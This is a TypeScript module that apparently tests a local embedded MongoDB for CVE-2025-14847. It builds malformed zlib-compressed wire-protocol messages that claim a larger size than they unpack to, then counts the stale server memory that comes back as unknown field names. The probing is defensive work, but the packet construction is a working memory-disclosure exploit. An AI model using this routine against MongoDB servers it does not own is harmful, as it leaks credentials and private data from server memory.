import { existsSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { connect, type NetConnectOpts } from 'node:net'
import { join } from 'node:path'
import { deflateSync, inflateSync } from 'node:zlib'

/** Opcodes and the compressor of MongoDB's wire protocol.
 *  @see https://www.mongodb.com/docs/manual/reference/mongodb-wire-protocol/ */
const opMsg = 2013
const opCompressed = 2012
const zlibId = 2
const patienceMs = 20_000

/** The address of the embedded MongoDB of a data folder. */
export async function embeddedPlace(dataDir: string): Promise<NetConnectOpts> {
  const path = join(dataDir, 'socket', 'mongod.sock')
  if (existsSync(path)) return { path }
  const { port }: { port: number } = JSON.parse(await readFile(join(dataDir, 'mongod.json'), 'utf8'))
  return { host: '127.0.0.1', port }
}

/** Whether a MongoDB answers a well-formed compressed message without authentication. */
export async function takesCompressedMessages(place: NetConnectOpts): Promise<boolean> {
  const question = message(document(Buffer.from('\x10hello\0\x01\0\0\0\x02$db\0\x06\0\0\0admin\0', 'latin1')))
  return (await ask(place, compress(question, question.length))).includes('maxWireVersion')
}

/** Tries CVE-2025-14847: compressed messages that claim a larger size than they unpack to. A vulnerable
 *  server reads the rest from memory that it used before, and returns it as the name of an unknown field.
 *  @returns how many foreign bytes came back from `tries` messages */
export async function leakedBytes(place: NetConnectOpts, tries: number): Promise<number> {
  let leaked = 0
  for (let at = 0; at < tries; at += 1) {
    const claimed = 60 + at * 8
    const truncated = message(document(Buffer.from('\x10a\0\x01\0\0\0', 'latin1'), claimed))
    const answer = await ask(place, compress(truncated, claimed + 500))
    for (const [, name = ''] of answer.matchAll(/field name '([^']*)'/g)) leaked += name.length
  }
  return leaked
}

/** A BSON document whose length field may be wrong. */
function document(fields: Buffer, claimedBytes?: number): Buffer {
  const bytes = claimedBytes ?? fields.length + 5
  return Buffer.concat([int32(bytes), fields, ...(claimedBytes === undefined ? [Buffer.alloc(1)] : [])])
}

/** The body of OP_MSG: no flags, one section with a document. */
function message(body: Buffer): Buffer {
  return Buffer.concat([int32(0), Buffer.alloc(1), body])
}

function compress(body: Buffer, claimedBytes: number): Buffer {
  const payload = Buffer.concat([int32(opMsg), int32(claimedBytes), Buffer.of(zlibId), deflateSync(body)])
  return Buffer.concat([int32(16 + payload.length), int32(1), int32(0), int32(opCompressed), payload])
}

function int32(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeInt32LE(value)
  return bytes
}

/** @returns the body of the answer, one character per byte; empty if the server closes the connection */
function ask(place: NetConnectOpts, request: Buffer): Promise<string> {
  return new Promise((resolve, reject) => {
    let answer = Buffer.alloc(0)
    const socket = connect(place, () => socket.write(request))
    socket.setTimeout(patienceMs, () => socket.destroy(new Error('No answer, and no end of the connection.')))
    socket.on('data', (chunk) => {
      answer = Buffer.concat([answer, chunk])
      if (answer.length >= 4 && answer.length >= answer.readInt32LE(0)) socket.destroy()
    })
    // The server may end a connection by resetting it.
    socket.on('error', (error: NodeJS.ErrnoException) => {
      if (error.code !== 'ECONNRESET' && error.code !== 'EPIPE') reject(error)
    })
    socket.on('close', () => resolve(bodyOf(answer)))
  })
}

function bodyOf(answer: Buffer): string {
  if (answer.length < 16) return ''
  const isCompressed = answer.readInt32LE(12) === opCompressed
  return (isCompressed ? inflateSync(answer.subarray(25)) : answer.subarray(16)).toString('latin1')
}
